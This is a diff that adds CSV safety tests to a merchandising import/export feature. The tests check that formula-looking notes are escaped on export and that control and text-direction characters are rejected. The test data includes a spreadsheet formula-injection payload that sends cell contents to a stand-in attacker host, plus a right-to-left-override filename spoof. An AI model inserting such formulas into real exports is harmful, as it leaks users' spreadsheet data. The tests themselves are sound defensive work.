@@ -98,3 +98,33 @@ describe('CSV import', () => {
     expect(r.ok ? 'ok' : r.error.code).toBe('conflict');
   });
 });
+
+describe('CSV safety', () => {
+  it('exports a note that looks like a formula as text, and imports it back unchanged', () => {
+    const note = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const csv = [HEADER, `tent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,"${note.replace(/"/g, '""')}"`].join('\n');
+    const draft = ok(app.call('merch.csv.import', { csv, baseRevision: 0 })).draft;
+    expect(draft.policy.affinities.find((a) => a.id === 'tent-bag')?.note).toBe(note);
+    const out = ok(app.call('merch.csv.export', {}));
+    expect(out.csv).not.toMatch(/,"?=HYPERLINK/);
+    expect(out.csv).toContain(`"'=HYPERLINK(`);
+    const back = ok(app.call('merch.csv.import', { csv: out.csv, baseRevision: draft.revision }));
+    expect(back).toMatchObject({ imported: true, unchanged: 3 });
+  });
+
+  it('refuses control and bidi characters, naming the row, and imports nothing', () => {
+    const csv = [
+      HEADER,
+      'tent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,fine',
+      'a-b,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,"evil \u202Etxt.exe"',
+      'c-d,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,"bell\u0007"',
+    ].join('\n');
+    const r = ok(app.call('merch.csv.import', { csv, baseRevision: 0 }));
+    expect(r.imported).toBe(false);
+    expect(r.rows.filter((x) => x.status === 'rejected').map((x) => [x.line, x.errors[0]])).toEqual([
+      [3, expect.stringContaining('note: contains a text-direction character (U+202E)')],
+      [4, expect.stringContaining('note: contains a control character (U+0007)')],
+    ]);
+    expect(draftIds()).toHaveLength(3);
+  });
+});
